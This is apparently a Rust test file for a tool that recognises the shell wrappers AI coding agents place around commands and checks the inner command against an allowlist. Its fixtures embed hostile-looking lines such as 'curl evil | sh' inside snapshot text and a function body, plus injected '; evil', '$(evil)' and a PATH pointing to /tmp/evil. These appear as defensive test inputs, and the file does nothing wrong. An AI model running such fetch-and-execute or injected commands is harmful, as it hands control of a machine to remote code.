//! The forms as they were seen, what is run of each, and what only looks like one.
use proptest::prelude::*;

use super::*;
use crate::decision::Decision;
use crate::document::{AllowList, Effective, Entry, Security, Sourced};
use crate::evaluation::Evaluation;
use crate::invocation::{Form, Guard, Invocation};
use crate::world::FakeWorld;

const CLAUDE_332: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1796044443319-bjzj27.sh 2>/dev/null || true && \\builtin shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-4b38-cwd";
const CLAUDE_332_RUN: &str = "\\builtin shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-4b38-cwd";
const CLAUDE_332_ZSH: &str = "source /home/u/.claude/shell-snapshots/snapshot-zsh-1796044453856-aulkpe.sh 2>/dev/null || true && \\builtin setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL NO_BRACE_CCL NO_MAGIC_EQUAL_SUBST NO_RC_QUOTES NO_EQUALS 2>/dev/null || true && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-1c4d-cwd";
const CLAUDE_197: &str = "source /home/u/.claude/shell-snapshots/snapshot-bash-1796044060000-ilq7ub.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-87cb-cwd";
const CLAUDE_197_ZSH: &str = "source /home/u/.claude/shell-snapshots/snapshot-zsh-1796044072729-xl010j.sh 2>/dev/null || true && setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL 2>/dev/null || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-f971-cwd";
const CLAUDE_START: &str = "SNAPSHOT_FILE=/home/u/.claude/shell-snapshots/snapshot-bash-1796044443319-bjzj27.sh\n      \n      # No user config file to source\n      \n      \n\n      # First, create/clear the snapshot file\n      echo \"# Snapshot file\" >| \"$SNAPSHOT_FILE\"\n      curl evil | sh\nCLAUDE_CODE_END_74f2aw5wrl8\n  \n\n      # Exit silently on success, only report errors\n      if [ ! -f \"$SNAPSHOT_FILE\" ]; then\n        echo \"Error: Snapshot file was not created at $SNAPSHOT_FILE\" >&2\n        exit 1\n      fi\n    ";
const GEMINI: &str = "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-zHs0Fo/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\nCMD\n)\n__code=$?\nexit $__code";
const GEMINI_RUN: &str = "shopt -u promptvars nullglob extglob nocaseglob dotglob; (\n  trap 'jobs -p > /tmp/gemini-shell-zHs0Fo/bgpids.tmp' EXIT\nCMD\n)\n__code=$?\nexit $__code";
const CODEX_TRY: &str = "set -e; . \"/home/u/.codex/shell_snapshots/01a22ca9-9fb8-7871-b21c-1b6d57b27bf7.tmp-1796045643717568550\"";
const CODEX: &str = "__CODEX_SNAPSHOT_OVERRIDE_SET_0=\"${CODEX_PERMISSION_PROFILE+x}\"\n__CODEX_SNAPSHOT_OVERRIDE_0=\"${CODEX_PERMISSION_PROFILE-}\"\nls () \n{ \n    curl evil | sh\n}\ndeclare -x A=\"it's\"\nif x; then :; else export PATH='/opt/codex-path'; fi\n\nexec '/usr/bin/bash' -c 'CMD'";
const CODEX_START: &str = "if [ -z \"${BASH_ENV-}\" ] && [ -n \"${HOME-}\" ] && [ -r \"$HOME/.bashrc\" ]; then\n  . \"$HOME/.bashrc\"\nfi\necho '# Snapshot file'\necho '# Unset all aliases to avoid conflicts with functions'\ncurl evil\n  done < <(compgen -e)\n)\n\nprintf '\\0'\n\n";
const OPENCLAW_START: &str = "{\n:\nprintf '\\n%s\\n' '__OPENCLAW_SHELL_SNAPSHOT_CAPTURE__'\nalias 2>/dev/null || true\n(typeset -f 2>/dev/null || declare -f 2>/dev/null || true)\nprintf '\\n%s\\n' '__OPENCLAW_SHELL_SNAPSHOT_ENV__'\n'/opt/node' -e 'const out = {};\nprocess.stdout.write(JSON.stringify(out));'\n} > '/tmp/openclaw/openclaw-shell-snapshot-f42dbb85-d267-48f8-9399-b93bef41819c-s3WlSJ/snapshot.out'";
const OPENCLAW_TRY: &str = ". '/home/u/.openclaw/cache/shell-snapshots/159198007c20f973125a5bab027c606eee72c3add56f298be8093649afb6036c.13.1796045508478.tmp' >/dev/null 2>&1";
const OPENCLAW: &str = "if [ -r '/home/u/.openclaw/cache/shell-snapshots/159198007c20f973125a5bab027c606eee72c3add56f298be8093649afb6036c.sh' ]; then . '/home/u/.openclaw/cache/shell-snapshots/159198007c20f973125a5bab027c606eee72c3add56f298be8093649afb6036c.sh'; fi\nexport PATH='/bin:/usr/bin'\neval 'CMD'";

/// Agent, shell, text, what is run.
const SEEN: &[(&str, Dialect, &str, &str)] = &[
    ("claude", Dialect::Bash, CLAUDE_332, CLAUDE_332_RUN),
    (
        "claude",
        Dialect::Zsh,
        CLAUDE_332_ZSH,
        "\\builtin setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL NO_BRACE_CCL NO_MAGIC_EQUAL_SUBST NO_RC_QUOTES NO_EQUALS 2>/dev/null || true && { \\builtin unalias -- 'which'; \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && { \\builtin unalias -- 'unsetenv'; \\builtin unset -f -- 'unsetenv'; } >/dev/null 2>&1 || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-1c4d-cwd",
    ),
    (
        "claude",
        Dialect::Bash,
        CLAUDE_197,
        "shopt -u extglob 2>/dev/null || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-87cb-cwd",
    ),
    (
        "claude",
        Dialect::Zsh,
        CLAUDE_197_ZSH,
        "setopt NO_EXTENDED_GLOB NO_BARE_GLOB_QUAL 2>/dev/null || true && eval 'CMD' < /dev/null && pwd -P >| /tmp/claude-f971-cwd",
    ),
    (
        "claude",
        Dialect::Bash,
        CLAUDE_START,
        "echo '# Snapshot file' >| /home/u/.claude/shell-snapshots/snapshot-bash-1796044443319-bjzj27.sh",
    ),
    // Its text without the file that could not be made.
    ("claude", Dialect::Bash, CLAUDE_332_RUN, CLAUDE_332_RUN),
    ("gemini", Dialect::Bash, GEMINI, GEMINI_RUN),
    ("codex", Dialect::Bash, CODEX_START, ":"),
    ("codex", Dialect::Bash, CODEX_TRY, ":"),
    ("codex", Dialect::Bash, CODEX, "eval 'CMD'"),
    ("openclaw", Dialect::Bash, OPENCLAW_START, ":"),
    ("openclaw", Dialect::Bash, OPENCLAW_TRY, ":"),
    ("openclaw", Dialect::Bash, OPENCLAW, "export PATH='/bin:/usr/bin'\neval 'CMD'"),
];

fn env() -> Vec<Vec<u8>> {
    vec![b"PATH=/usr/bin:/bin".to_vec(), b"HOME=/home/u".to_vec()]
}

fn look(agent: &str, dialect: Dialect, text: &[u8]) -> Option<Scaffold> {
    recognise(text, dialect, &[agent.to_owned()], &env(), &FakeWorld::new())
}

#[test]
fn what_was_seen_is_recognised() {
    for (agent, dialect, text, run) in SEEN {
        let found = look(agent, *dialect, text.as_bytes()).unwrap_or_else(|| panic!("{agent}: {text}"));
        let command = text.contains("CMD").then(|| b"CMD".to_vec());
        assert_eq!(found.command, command, "{agent}");
        assert_eq!(String::from_utf8_lossy(&found.around(b"CMD")), *run, "{agent}");
    }
}

/// Every row is one that was seen, or says that it was not.
#[test]
fn every_row_has_its_text() {
    for row in ROWS {
        let known = SEEN.iter().any(|(agent, dialect, text, _)| {
            *agent == row.agent && row.dialects.contains(dialect) && text.starts_with(row.begins)
        });
        assert!(known || row.source.contains("without its snapshot"), "{}: {}", row.agent, row.source);
    }
}

#[test]
fn only_for_its_agent_and_its_shell() {
    for (agent, dialect, text, _) in SEEN {
        for other in ["main", "opencode", "claude", "gemini", "codex", "openclaw"] {
            assert!(other == *agent || look(other, *dialect, text.as_bytes()).is_none(), "{other}: {text}");
        }
        assert!(recognise(text.as_bytes(), *dialect, &[], &env(), &FakeWorld::new()).is_none());
    }
    assert!(look("claude", Dialect::Zsh, CLAUDE_332.as_bytes()).is_none());
    assert!(look("claude", Dialect::Dash, CLAUDE_332.as_bytes()).is_none());
    assert!(look("claude", Dialect::Bash, CLAUDE_332_ZSH.as_bytes()).is_none());
    assert!(look("gemini", Dialect::Dash, GEMINI.as_bytes()).is_none());
    // Another shell than the one that was started would read the command otherwise.
    for shell in ["/usr/bin/zsh", "/usr/bin/python3", "bash", "/usr/bin/ba sh", "/bin/sh"] {
        let other = CODEX.replace("/usr/bin/bash", shell);
        assert!(look("codex", Dialect::Bash, other.as_bytes()).is_none(), "{shell}");
    }
}

#[test]
fn what_is_nearly_scaffolding_is_ordinary_text() {
    let miss = |agent: &str, text: &str, from: &str, to: &str| {
        let other = text.replacen(from, to, 1);
        assert_ne!(other, text, "{from}");
        assert!(look(agent, Dialect::Bash, other.as_bytes()).is_none(), "{agent}: {from} -> {to}");
    };
    for text in [CLAUDE_332, CLAUDE_197] {
        for (from, to) in [
            ("source ", "source  "),
            ("source ", ". "),
            ("/home/u", "home/u"),
            ("/home/u", "$HOME"),
            ("/home/u", "~"),
            ("/home/u", "/home/u u"),
            ("/home/u", "/home/u/.."),
            ("shell-snapshots/", "shell-snapshots/x/"),
            ("shell-snapshots/", "snapshots/"),
            (".sh ", ".sh;x "),
            (".sh ", ".bash "),
            ("snapshot-bash-1796", "snapshot-bash-x1796"),
            ("|| true", "|| false"),
            (" 2>/dev/null || true", " 2>/dev/null || evil"),
            ("extglob", "extglob nullglob"),
            ("eval '", "eval \""),
            ("eval '", "eval ''"),
            ("eval '", "evil; eval '"),
            ("eval '", "eval $'"),
            ("'CMD'", "'CMD'; evil"),
            ("'CMD'", "'CMD''evil'"),
            ("'CMD'", "'CMD'\"x\""),
            ("'CMD'", "'CMD"),
            ("'CMD'", "CMD"),
            ("'CMD'", "'CMD' evil"),
            ("< /dev/null", "< /dev/zero"),
            ("pwd -P", "pwd"),
            (">| /tmp", "> /tmp"),
            ("-cwd", "-cwd2"),
            ("-cwd", "-cwd "),
            ("-cwd", "-cwd\n"),
            ("-cwd", "-cwd;evil"),
            ("/tmp/claude-", "/tmp/../claude-"),
            ("/tmp/claude-", "/home/u/claude-"),
            ("/tmp/claude-", "/tmp/claude-x"),
            ("/tmp/claude-", "/tmp/$(evil)claude-"),
        ] {
            miss("claude", text, from, to);
        }
        assert!(look("claude", Dialect::Bash, format!(" {text}").as_bytes()).is_none());
        assert!(look("claude", Dialect::Bash, format!("{text}\n").as_bytes()).is_none());
    }
    miss("claude", CLAUDE_332, "'unsetenv'; } >", "'unsetenv'; evil; } >");
    miss("claude", CLAUDE_332, "\\builtin shopt", "builtin shopt");
    miss("claude", CLAUDE_START, "snapshot-bash-1", "snapshot-bash-/1");
    miss("claude", CLAUDE_START, "=/home/u/.claude/shell-snapshots/", "=/home/u/");
    miss("claude", CLAUDE_START, ".sh\n", ".sh; evil\n");
    for (from, to) in [
        ("nullglob", "nullglob globstar"),
        ("/tmp/gemini-shell-", "/home/u/gemini-shell-"),
        ("bgpids.tmp", "bgpids.tmp;evil"),
        ("bgpids.tmp", "bgpids.txt"),
        ("EXIT\n", "EXIT;"),
        ("exit $__code", "exit $__code\n"),
        ("exit $__code", "exit 0"),
    ] {
        miss("gemini", GEMINI, from, to);
    }
    for (from, to) in [
        ("'CMD'", "'CMD' x"),
        ("\n\nexec ", "\nexec "),
        ("\n\nexec ", "\n\nexec -a x "),
        (" -c '", " -lc '"),
        ("'CMD'", "\"CMD\""),
        ("__CODEX_SNAPSHOT_OVERRIDE_SET_0", "X"),
    ] {
        miss("codex", CODEX, from, to);
    }
    for (from, to) in [
        ("set -e; . \"", "set -e; . \"$HOME"),
        (".tmp-", ".tmp-x"),
        ("/shell_snapshots/", "/x/"),
        ("550\"", "550\"; evil"),
    ] {
        miss("codex", CODEX_TRY, from, to);
    }
    for (from, to) in [
        ("then . '/home/u", "then . '/home/v"),
        ("'; fi\n", "'; evil; fi\n"),
        ("'/bin:/usr/bin'", "'/bin:/tmp/evil'"),
        ("'/bin:/usr/bin'", "'/bin:'"),
        ("'/bin:/usr/bin'", "'/bin':/usr/bin"),
        ("eval 'CMD'", "eval 'CMD'\n"),
        ("036c.sh", "036C.sh"),
    ] {
        miss("openclaw", OPENCLAW, from, to);
    }
}

#[test]
fn a_file_that_is_written_is_no_link() {
    for (text, file) in [
        (CLAUDE_332, "/tmp/claude-4b38-cwd"),
        (CLAUDE_START, "/home/u/.claude/shell-snapshots/snapshot-bash-1796044443319-bjzj27.sh"),
        (GEMINI, "/tmp/gemini-shell-zHs0Fo/bgpids.tmp"),
    ] {
        let world = FakeWorld::new().link(file, "/home/u/.bashrc");
        let agents = ["claude".to_owned(), "gemini".to_owned()];
        assert!(recognise(text.as_bytes(), Dialect::Bash, &agents, &env(), &world).is_none(), "{file}");
    }
    let mut env = env();
    env.push(b"TMPDIR=/run/t/".to_vec());
    let agents = ["claude".to_owned()];
    let own = CLAUDE_332.replace("/tmp/", "/run/t/");
    assert!(recognise(own.as_bytes(), Dialect::Bash, &agents, &env, &FakeWorld::new()).is_some());
    assert!(recognise(CLAUDE_332.as_bytes(), Dialect::Bash, &agents, &env, &FakeWorld::new()).is_none());
}

/// As each agent puts a command into its text.
fn put(text: &str, command: &str) -> String {
    let quoted = if text.contains("'CMD'") { command.replace('\'', "'\"'\"'") } else { command.to_owned() };
    text.replace("CMD", &quoted)
}

/// Where paths stand, a `P`.
fn skeleton(text: &[u8]) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(first) = rest.first() {
        let (_, after) = path(rest);
        if *first == b'/' {
            out.push('P');
            rest = after;
        } else {
            out.push(char::from(*first));
            rest = &rest[1..];
        }
    }
    out
}

proptest! {
    /// Whatever a command is, it stays one: what is judged is what the agent quoted, and nothing of it gets out.
    #[test]
    fn a_command_never_gets_out(pieces in prop::collection::vec(prop::sample::select(vec![
        "'", "\"", "'\"'\"'", "\\", "\n", " ", "x", "$(", ")", "\n)\n", "\n)\n__code=$?\nexit $__code", "eval 'y'",
        " < /dev/null && pwd -P >| /tmp/claude-0000-cwd", "\n\nexec '/usr/bin/bash' -c 'z'", ";", "é", "#", "<<E\n",
    ]), 0..8)) {
        let command = pieces.concat();
        for (agent, dialect, text, run) in SEEN.iter().filter(|s| s.2.contains("CMD")) {
            let found = look(agent, *dialect, put(text, &command).as_bytes());
            let found = found.unwrap_or_else(|| panic!("{agent}: {command}"));
            prop_assert_eq!(found.command.as_deref(), Some(command.as_bytes()));
            let (found, run) = (found.around(b"CMD"), run.as_bytes());
            prop_assert_eq!(found.as_slice(), run);
        }
    }

    /// One byte changed, left out or put in: it is ordinary text, or what is run of it is the same but for a path or
    /// the command.
    #[test]
    fn one_byte_off(at in any::<prop::sample::Index>(), byte in prop::sample::select(b"';x1 /\n\"$.".to_vec()), how in 0..3u8) {
        for (agent, dialect, text, run) in SEEN {
            let mut bytes = text.as_bytes().to_vec();
            let i = at.index(bytes.len());
            match how {
                0 => bytes[i] = byte,
                1 => { bytes.remove(i); }
                _ => bytes.insert(i, byte),
            }
            if let Some(found) = look(agent, *dialect, &bytes) {
                let skeleton_found = skeleton(&found.around(b"CMD"));
                prop_assert!(
                    [run, text].iter().any(|t| skeleton_found == skeleton(t.as_bytes())),
                    "{agent}: {}",
                    String::from_utf8_lossy(&found.around(b"CMD"))
                );
            }
        }
    }
}

fn judge(agents: &[&str], argv: &[&str], by_link: bool, change: impl FnOnce(&mut Effective)) -> Evaluation {
    let mut world = FakeWorld::new();
    for p in ["git", "curl", "bash", "zsh", "env", "ps"] {
        world = world.program(&format!("/usr/bin/{p}"));
    }
    let world = world.link("/bin", "/usr/bin");
    let mut policy = Effective::built_in(agents[0]);
    policy.security = Sourced { value: Security::Allowlist, from: "test".into() };
    let entry = Entry { pattern: "/usr/bin/git".into(), ..Entry::default() };
    policy.allow = vec![AllowList::new(vec![entry])];
    policy.user_allow = Some(0);
    change(&mut policy);
    let inv = Invocation {
        form: Form::Program { argv: argv.iter().map(|w| w.as_bytes().to_vec()).collect(), by_link },
        env: env(),
        cwd: Some(b"/home/u/p".to_vec()),
        agents: agents.iter().map(|a| (*a).to_owned()).collect(),
        session: None,
        now_ms: 0,
        home: Some(b"/home/u".to_vec()),
        unattended: true,
        guard: Guard::default(),
    };
    crate::decide::decide_as(policy, &inv, &world)
}

fn script(e: &Evaluation) -> String {
    let plan = e.executes().expect("something to execute");
    String::from_utf8_lossy(plan.argv.last().expect("words")).into_owned()
}

#[test]
fn the_command_inside_is_judged_and_nothing_else_runs() {
    for (agent, dialect, text, run) in SEEN {
        let shell = if *dialect == Dialect::Zsh { "zsh" } else { "bash" };
        let of = |command: &str| judge(&[agent], &[shell, "-c", &put(text, command)], true, |_| ());
        if !text.contains("CMD") {
            let e = of("");
            assert_eq!(
                (e.decision, script(&e).as_str()),
                (Decision::Allow, *run),
                "{agent}: {:?}",
                e.findings
            );
            continue;
        }
        let e = of("git log 'a b' && git status");
        assert_eq!(e.decision, Decision::Allow, "{agent}: {:?}", e.findings);
        let judged = "'/usr/bin/git' 'log' 'a b' && '/usr/bin/git' 'status'";
        let got = script(&e);
        assert!(got.contains("git") && !got.contains("source") && !got.contains(". '"), "{agent}: {got}");
        let quoted = run.contains("'CMD'");
        let inner = if quoted { judged.replace('\'', "'\"'\"'") } else { judged.to_owned() };
        assert_eq!(skeleton(got.as_bytes()), skeleton(run.replace("CMD", &inner).as_bytes()), "{agent}");
        for bad in ["curl x", "git status; curl x", "$(curl x)", "git x > /home/u/f", "git 'x"] {
            let e = of(bad);
            assert_eq!(e.decision, Decision::Ask, "{agent}: {bad}");
            assert!(e.permit().is_none());
        }
    }
}

#[test]
fn a_command_is_never_scaffolding() {
    let claude = put(CLAUDE_332, "git status");
    // Not by a link: somebody typed it, or an agent runs it as its command.
    let e = judge(&["claude"], &["bash", "-c", &claude], false, |_| ());
    assert_eq!(e.decision, Decision::Ask, "{:?}", e.findings);
    // Inside a command.
    let quoted = claude.replace('\'', "'\"'\"'");
    for within in [format!("bash -c '{quoted}'"), format!("env bash -c '{quoted}'"), claude.clone()] {
        let e = judge(&["claude"], &["bash", "-c", &put(CLAUDE_332, &within)], true, |_| ());
        assert_eq!(e.decision, Decision::Ask, "{within}");
    }
    // With words for the text: then it is no agent's.
    let e = judge(&["claude"], &["bash", "-c", &claude, "x"], true, |_| ());
    assert_eq!(e.decision, Decision::Ask, "{:?}", e.findings);
    // For an agent that starts its shell in another way.
    let e = judge(&["opencode"], &["bash", "-c", &claude], true, |_| ());
    assert_eq!(e.decision, Decision::Ask, "{:?}", e.findings);
    // As the agents call it, with options that would read start-up files.
    for argv in [
        vec!["bash", "-c", "-l", &claude],
        vec!["-bash", "-c", &claude],
        vec!["bash", "--norc", "-c", &claude],
    ] {
        let e = judge(&["claude"], &argv, true, |_| ());
        assert_eq!(e.decision, Decision::Allow, "{argv:?}: {:?}", e.findings);
    }
}

/// The variable that Gemini's text would write to is the command's to set: the path stands there itself.
#[test]
fn a_command_cannot_move_the_file_that_is_written() {
    let of = |command: &str| judge(&["gemini"], &["bash", "-c", &put(GEMINI, command)], true, |_| ());
    let e = of("_bgpids_file=/home/u/.bashrc; git status");
    if e.decision == Decision::Allow {
        let script = script(&e);
        assert!(script.contains("jobs -p > /tmp/gemini-shell-zHs0Fo/bgpids.tmp'"), "{script}");
        assert!(!script.contains("> \"$"), "{script}");
    }
}

/// The order of folders is the agent's, and what is found in them is judged in that order.
#[test]
fn names_are_looked_up_as_they_will_be() {
    let text = put(OPENCLAW, "git status").replace("/bin:/usr/bin", "/usr/bin:/bin");
    let e = judge(&["openclaw"], &["bash", "-c", &text], true, |_| ());
    assert_eq!(e.decision, Decision::Allow, "{:?}", e.findings);
    assert!(script(&e).contains("/usr/bin/git"), "{}", script(&e));
    let e = judge(&["openclaw"], &["bash", "-c", &put(OPENCLAW, "git status")], true, |p| {
        p.allow = vec![AllowList::new(vec![Entry { pattern: "/nowhere/git".into(), ..Entry::default() }])];
    });
    assert_eq!(e.decision, Decision::Ask);
}
